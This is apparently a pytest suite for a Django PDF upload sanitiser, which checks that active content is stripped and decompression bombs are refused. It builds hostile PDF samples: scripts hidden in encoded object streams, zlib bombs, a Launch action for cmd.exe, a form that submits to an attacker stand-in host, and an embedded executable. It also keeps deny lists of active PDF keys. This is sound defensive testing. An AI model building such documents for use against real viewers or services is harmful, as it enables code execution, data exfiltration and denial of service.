"""Issue 17, finding 4: a PDF annex is kept only as a rewritten copy without active content.

The four bypasses of the old scanner (a script in an object stream encoded with
ASCIIHex, ASCII85, Flate with a PNG predictor, or behind a 64 MiB zlib bomb) are
uploaded through the real pages as a proponent: the bomb is refused, fast; the
others are stored and served only as their rewritten copy, in which no object
holds active content, while a clean PDF keeps its pages and text.
"""

import io
import time

import pikepdf
import pytest
from django.contrib.messages import get_messages
from django.urls import reverse
from django.utils import timezone
from fpdf import FPDF
from pikepdf import Array, Dictionary, Name, String

from applications.models import Attachment
from monitoring.models import AnnualReport
from tests.annexes.conftest import member_of, stored_files, upload
from tests.monitoring.helpers import certified

from . import pdfattack as attack

# Keys and names that make a PDF act by itself (or carry a file); none may be left anywhere.
ACTIVE_KEYS = {"/OpenAction", "/AA", "/JS", "/JavaScript", "/EmbeddedFiles", "/EF", "/XFA"}
ACTIVE_NAMES = {"/JavaScript", "/Launch", "/SubmitForm", "/ImportData", "/GoToR", "/EmbeddedFile"}
BYPASSES = {"ascii-hex": attack.ascii_hex, "ascii85": attack.ascii85, "flate-png-predictor": attack.flate_png_predictor,
            "flate": attack.flate}


def active_parts(data: bytes) -> set:
    """Every active key or name in any object of the PDF ``data``, direct children included."""
    found = set()
    with pikepdf.open(io.BytesIO(data)) as pdf:
        stack = [pdf.trailer, *pdf.objects]
        seen = set()
        while stack:
            obj = stack.pop()
            if isinstance(obj, (Dictionary, pikepdf.Stream)):
                if obj.is_indirect:
                    if obj.objgen in seen:
                        continue
                    seen.add(obj.objgen)
                found |= ACTIVE_KEYS & set(obj.keys())
                stack.extend(obj[key] for key in obj.keys())
            elif isinstance(obj, Array):
                stack.extend(obj)
            elif isinstance(obj, Name) and str(obj) in ACTIVE_NAMES:
                found.add(str(obj))
    return found


def page_contents(data: bytes) -> list:
    with pikepdf.open(io.BytesIO(data)) as pdf:
        return [b"".join(c.read_bytes() for c in _as_list(page.obj.get(Name.Contents))) for page in pdf.pages]


def _as_list(value):
    return list(value) if isinstance(value, Array) else [value] if value is not None else []


CLEANED = "ระบบได้นำสคริปต์ คำสั่งที่ทำงานเอง หรือแฟ้มที่ฝังไว้ออกจาก"


def told(response) -> str:
    return " ".join(str(m) for m in get_messages(response.wsgi_request))


def post(client, proposal, name, content):
    return client.post(reverse("annex-upload", args=[proposal.pk]),
                       {"kind": "full_plan", "file": upload(name, content, "application/pdf")})


def served(client, attachment) -> bytes:
    response = client.get(reverse("annex-download", args=[attachment.proposal_id, attachment.pk]))
    assert response.status_code == 200
    return b"".join(response.streaming_content)


@pytest.fixture
def signed_in(client, media, draft):
    client.force_login(member_of(draft))
    return client


def refused(response, media, *phrases):
    assert response.status_code == 400
    [error] = response.context["form"].errors["file"]
    for phrase in phrases:
        assert phrase in error, error
    assert Attachment.objects.count() == 0 and stored_files(media) == []
    return error


@pytest.mark.django_db
@pytest.mark.parametrize("encode", BYPASSES.values(), ids=BYPASSES.keys())
def test_script_in_an_encoded_object_stream_is_stored_and_served_only_rewritten(signed_in, media, draft, encode):
    content = attack.build(encode=encode)
    assert {"/OpenAction", "/AA", "/JS", "/JavaScript"} <= active_parts(content)  # the attack is real
    response = post(signed_in, draft, "แผนแม่บท.pdf", content)
    assert response.status_code == 302
    assert CLEANED in told(response)  # the proponent learns the copy kept is not what they sent
    a = Attachment.objects.get()
    stored = (media / a.file.name).read_bytes()
    assert active_parts(stored) == set()
    body = served(signed_in, a)
    assert body == stored and body != content
    assert page_contents(body) == [attack.CONTENT]  # the page and its text are still there


@pytest.mark.django_db
def test_script_behind_a_zlib_bomb_is_refused_quickly(signed_in, media, draft):
    bomb = attack.zlib_bomb(64 * attack.MIB)
    content = attack.build(encode=attack.flate, before=[(b"/Filter /FlateDecode", bomb)])
    assert len(content) < attack.MIB  # small on the wire
    started = time.monotonic()
    response = post(signed_in, draft, "แผนแม่บท.pdf", content)
    assert time.monotonic() - started < 5
    refused(response, media, "แฟ้ม ‘แผนแม่บท.pdf’", "48 MB", "ระบบไม่รับ")


@pytest.mark.django_db
@pytest.mark.parametrize("chain", ["hex-then-flate", "flate-then-jpeg"])
def test_a_bomb_behind_other_filters_is_refused(signed_in, media, draft, chain):
    bomb = attack.zlib_bomb(64 * attack.MIB)
    if chain == "hex-then-flate":  # decoded by qpdf, stopped by its Flate limit
        stream = (b"/Filter [/ASCIIHexDecode /FlateDecode]", bomb.hex().encode() + b">")
    else:  # an image codec qpdf does not decode: the Flate in front of it still is
        stream = (b"/Subtype /Image /Width 1 /Height 1 /BitsPerComponent 8 /ColorSpace /DeviceGray "
                  b"/Filter [/FlateDecode /DCTDecode]", bomb)
    content = attack.build(encode=attack.flate, before=[stream])
    started = time.monotonic()
    response = post(signed_in, draft, "แผน.pdf", content)
    assert time.monotonic() - started < 5
    refused(response, media, "48 MB")


@pytest.mark.django_db
def test_an_object_stream_that_is_itself_a_bomb_is_refused(signed_in, media, draft):
    content = attack.build(encode=attack.flate_bomb)
    started = time.monotonic()
    response = post(signed_in, draft, "แผน.pdf", content)
    assert time.monotonic() - started < 5
    # qpdf stops decoding at the limit, so the catalog inside cannot be reached: the file is unreadable.
    refused(response, media, "แฟ้ม ‘แผน.pdf’ อ่านเป็น PDF ไม่ได้")


def fpdf_document(pages=2) -> bytes:
    pdf = FPDF()
    pdf.set_title("Smart city plan")
    pdf.set_font("helvetica", size=14)
    for number in range(1, pages + 1):
        pdf.add_page()
        pdf.cell(text=f"Smart city plan, page {number}")
    return bytes(pdf.output())


@pytest.mark.django_db
def test_clean_pdf_uploads_and_stays_readable(signed_in, media, draft):
    content = fpdf_document(pages=2)
    response = post(signed_in, draft, "แผน.pdf", content)
    assert response.status_code == 302 and CLEANED not in told(response)
    body = served(signed_in, Attachment.objects.get())
    assert body != content  # every PDF is rewritten, a clean one too
    assert page_contents(body) == page_contents(content)
    assert b"Smart city plan, page 2" in page_contents(body)[1]
    with pikepdf.open(io.BytesIO(body)) as pdf:
        assert str(pdf.docinfo["/Title"]) == "Smart city plan"


def hostile_document() -> bytes:
    """Everything the brief names, put where a viewer would act on it, beside an ordinary web link."""
    pdf = pikepdf.open(io.BytesIO(fpdf_document(pages=1)))
    script = pdf.make_indirect(Dictionary(S=Name.JavaScript, JS=String("app.alert(1)")))
    page = pdf.pages[0].obj
    page.Annots = pdf.make_indirect(Array([
        Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 50, 50],
                   A=Dictionary(S=Name.Launch, F=String("cmd.exe"))),
        Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[60, 0, 110, 50],
                   A=Dictionary(S=Name.URI, URI=String("https://smartcity.example/plan"),
                                Next=Dictionary(S=Name.GoToR, F=String("other.pdf"), D=[0, Name.Fit]))),
    ]))
    field = pdf.make_indirect(Dictionary(FT=Name.Tx, T=String("city"), AA=Dictionary(K=script),
                                         A=Dictionary(S=Name.SubmitForm, F=String("https://evil.example/"))))
    pdf.Root.AcroForm = Dictionary(Fields=[field], XFA=pdf.make_stream(b"<xdp:xdp/>"))
    outlines = pdf.Root.Outlines = pdf.make_indirect(Dictionary(Type=Name.Outlines, Count=2))
    first = pdf.make_indirect(Dictionary(Title=String("Import"), Parent=outlines,
                                         A=Dictionary(S=Name.ImportData, F=String("data.fdf"))))
    second = pdf.make_indirect(Dictionary(Title=String("Page 1"), Parent=outlines, Prev=first,
                                          A=Dictionary(S=Name.GoTo, D=[page, Name.Fit])))
    first.Next, outlines.First, outlines.Last = second, first, second
    pdf.attachments["tool.exe"] = pikepdf.AttachedFileSpec(pdf, b"MZ\x90\x00", filename="tool.exe")
    out = io.BytesIO()
    pdf.save(out)
    return out.getvalue()


@pytest.mark.django_db
def test_actions_forms_xfa_and_embedded_files_are_removed_plain_links_kept(signed_in, media, draft):
    content = hostile_document()
    assert {"/AA", "/XFA", "/EmbeddedFiles", "/EF", "/Launch", "/SubmitForm", "/GoToR"} <= active_parts(content)
    assert post(signed_in, draft, "แผน.pdf", content).status_code == 302
    body = served(signed_in, Attachment.objects.get())
    assert active_parts(body) == set()
    with pikepdf.open(io.BytesIO(body)) as pdf:
        launch, link = pdf.pages[0].obj.Annots
        assert Name.A not in launch  # the annotation stays (the page looks the same), inert
        assert str(link.A.URI) == "https://smartcity.example/plan" and Name.Next not in link.A
        assert len(pdf.attachments) == 0 and str(pdf.Root.AcroForm.Fields[0].T) == "city"
        first = pdf.Root.Outlines.First  # both bookmarks stay; only the one that fetched data went dead
        assert Name.A not in first and str(first.Next.Title) == "Page 1" and first.Next.A.S == Name.GoTo


@pytest.mark.django_db
@pytest.mark.parametrize("name", [b"/LZWDecode", b"/LZ#57Decode", b"/LZW"])
def test_lzw_is_refused_before_it_is_decoded(signed_in, media, draft, name):
    content = attack.build(content_entries=b"/Filter " + name)  # on the page's content stream
    refused(post(signed_in, draft, "แผน.pdf", content), media, "LZW")


@pytest.mark.django_db
def test_a_file_whose_streams_expand_past_the_file_budget_is_refused(signed_in, media, draft, settings):
    settings.PDF_FILE_MAX_MB = 1
    half = attack.flate(b"0" * (attack.MIB // 2 + 1))
    content = attack.build(encode=attack.flate, before=[half, half])
    refused(post(signed_in, draft, "แผน.pdf", content), media, "1 MB", "แบ่ง")


@pytest.mark.django_db
def test_password_protected_pdf_is_refused(signed_in, media, draft):
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(fpdf_document())) as pdf:
        pdf.save(out, encryption=pikepdf.Encryption(user="secret", owner="owner"))
    refused(post(signed_in, draft, "แผน.pdf", out.getvalue()), media, "รหัสผ่าน")


@pytest.mark.django_db
def test_owner_only_protection_is_removed_from_the_copy(signed_in, media, draft):
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(fpdf_document())) as pdf:
        pdf.save(out, encryption=pikepdf.Encryption(user="", owner="owner", allow=pikepdf.Permissions(extract=False)))
    assert post(signed_in, draft, "แผน.pdf", out.getvalue()).status_code == 302
    body = served(signed_in, Attachment.objects.get())
    with pikepdf.open(io.BytesIO(body)) as pdf:
        assert not pdf.is_encrypted and len(pdf.pages) == 2


@pytest.mark.django_db
def test_a_file_that_only_looks_like_a_pdf_is_refused_in_thai(signed_in, media, draft):
    content = b"%PDF-1.7\n" + b"not really a pdf\n" * 50 + b"%%EOF\n"
    refused(post(signed_in, draft, "แผน.pdf", content), media, "อ่านเป็น PDF ไม่ได้")


@pytest.mark.django_db
def test_monitoring_evidence_is_kept_rewritten_too(client, media):
    city = certified()
    client.force_login(member_of(city))
    year = timezone.localdate().year
    assert client.post(f"/monitoring/cities/{city.pk}/reports/", {"year": year}).status_code == 302
    report = AnnualReport.objects.get(proposal=city, year=year)
    first = report.results.order_by("indicator_id").first()
    evidence = upload("หลักฐาน.pdf", attack.build(encode=attack.ascii85))
    data = {"summary": "ดำเนินการตามแผน", f"evidence-{first.pk}": evidence}
    for row in report.results.all():
        data.update({f"value-{row.pk}": "10", f"comment-{row.pk}": ""})
    for row in report.initiatives.all():
        data.update({f"status-{row.pk}": "in_progress", f"spent-{row.pk}": "1", f"icomment-{row.pk}": ""})
    assert client.post(f"/monitoring/reports/{report.pk}/edit/", data).status_code == 302
    download = client.get(f"/monitoring/reports/{report.pk}/evidence/{first.pk}/")
    body = b"".join(download.streaming_content)
    assert active_parts(body) == set() and page_contents(body) == [attack.CONTENT]
